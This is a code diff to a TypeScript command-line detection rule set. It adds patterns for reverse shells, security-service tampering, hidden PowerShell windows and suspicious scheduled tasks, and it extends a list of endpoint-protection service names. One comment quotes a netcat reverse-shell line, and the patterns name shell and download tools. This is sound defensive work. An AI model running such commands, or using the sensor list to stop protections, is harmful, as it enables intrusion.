@@ -1,4 +1,24 @@
-/** Command lines attackers write, as plain string tests: see the words they are made of. The rest of the table stands in the files joined below. */
+import { PROXY_RULES } from "./command-line-proxies.ts";
+import { TAMPERING_RULES } from "./command-line-tampering.ts";
+import { TOOL_RULES } from "./command-line-tools.ts";
+import type { CommandLineRule } from "./command-line-words.ts";
+import {
+  all,
+  any,
+  anyWord,
+  attack,
+  fetches,
+  hasWeb,
+  inOpenFolder,
+  lolbas,
+  pipesIntoShell,
+  runs,
+  runsText,
+  word,
+  writesNumber,
+  writesRegistry,
+} from "./command-line-words.ts";
+
 /** `nc -e /bin/sh 203.0.113.9 443`: the switch and the shell stand behind the name. */
 function givesShell(line: string): boolean {
   return ["nc", "ncat", "netcat", "nc.exe", "ncat.exe", "nc64.exe"].some((program) => {
@@ -59,8 +79,13 @@ export const KNOWN_INSTALLS: readonly string[] = [
   "curl -fssl https://tailscale.com/install.sh | sh",
 ];
 
+const hidesOwnWindow = (line: string) => word(line, "hidden") && any(line, "-w ", "-win", "-w:", "/w ");
+
 /** Lines arrive lower-cased, with quotes and escape characters taken out, known variables filled in and white space made single. */
 export const COMMAND_LINE_RULES: readonly CommandLineRule[] = [
+  ...TAMPERING_RULES,
+  ...PROXY_RULES,
+  ...TOOL_RULES,
   {
     name: "shadow-copy-deletion",
     strength: "strong",
@@ -353,7 +378,9 @@ export const COMMAND_LINE_RULES: readonly CommandLineRule[] = [
       SENSORS.some((sensor) => word(line, sensor)) &&
       ((runs(line, "sc", "net", "net1") && anyWord(line, "stop", "delete", "disabled")) ||
         (runs(line, "taskkill") && anyWord(line, "/f", "-f", "/im", "-im")) ||
-        any(line, "stop-service")),
+        (line.includes("\\services\\") && writesRegistry(line) && writesNumber(line, 4)) ||
+        any(line, "stop-service", "stop-process", "remove-service") ||
+        (line.includes("set-service") && line.includes("disabled"))),
   },
   {
     name: "firewall-off",
@@ -400,7 +427,9 @@ export const COMMAND_LINE_RULES: readonly CommandLineRule[] = [
         any(line, "subprocess", "os.dup2", "pty.spawn", "/bin/sh", "/bin/bash", "exec(")) ||
       (line.includes("net.sockets.tcpclient") && runsText(line)) ||
       (all(line, "mkfifo", "/bin/sh") && runs(line, "nc", "ncat", "telnet", "openssl")) ||
-      (all(line, "socat", "exec:") && line.includes("tcp")),
+      (all(line, "socat", "exec:") && line.includes("tcp")) ||
+      (line.includes("child_process") && any(line, "net.socket", "net.connect", ".connect(")) ||
+      (line.includes("/inet/tcp/") && runs(line, "awk", "gawk")),
   },
   {
     // Many installers are documented this way.
@@ -445,8 +474,8 @@ export const COMMAND_LINE_RULES: readonly CommandLineRule[] = [
     matches: (line) =>
       any(line, "powershell", "pwsh") &&
       anyWord(line, "-nop", "-noprofile", "/nop") &&
-      word(line, "hidden") &&
-      any(line, "-w ", "-win", "-w:", "/w ") &&
+      // What it starts may be hidden; that is the other program's window.
+      hidesOwnWindow(line.includes("start-process") ? line.slice(0, line.indexOf("start-process")) : line) &&
       // What a product's own installed script does is not hidden from anybody.
       !any(line, "-file c:\\program files"),
   },
@@ -458,7 +487,9 @@ export const COMMAND_LINE_RULES: readonly CommandLineRule[] = [
     does: "makes a scheduled task that runs something hidden or from a folder anybody can write to",
     matches: (line) =>
       ((runs(line, "schtasks") && word(line, "/create")) || line.includes("register-scheduledtask")) &&
-      (inOpenFolder(line) || any(line, "-enc", "mshta", "javascript:") || (hasWeb(line) && any(line, "powershell", "cmd"))),
+      (inOpenFolder(line) ||
+        any(line, "-enc", "mshta", "javascript:", "regsvr32", "bitsadmin", "certutil", "frombase64string") ||
+        (hasWeb(line) && any(line, "powershell", "cmd"))),
   },
   {
     name: "run-key-from-open-folder",
@@ -560,6 +591,27 @@ const SENSORS = [
   "sysmon",
   "sysmon64",
   "wazuhsvc",
+  "avastsvc",
+  "avgsvc",
+  "avp",
+  "avp.exe",
+  "bdservicehost",
+  "cylancesvc",
+  "cyserver",
+  "elastic-endpoint",
+  "elasticendpoint",
+  "huntressagent",
+  "mcshield",
+  "mdcoresvc",
+  "mfefire",
+  "ntrtscan",
+  "sentinelstaticengine",
+  "tmlisten",
+  "vsserv",
+  "wdboot",
+  "wdfilter",
+  "webthreatdefsvc",
+  "wscsvc",
 ];
 /** Programs Windows offers before anybody has signed in. */
 const ACCESSIBILITY = ["sethc.exe", "utilman.exe", "osk.exe", "magnify.exe", "narrator.exe", "displayswitch.exe", "atbroker.exe"];
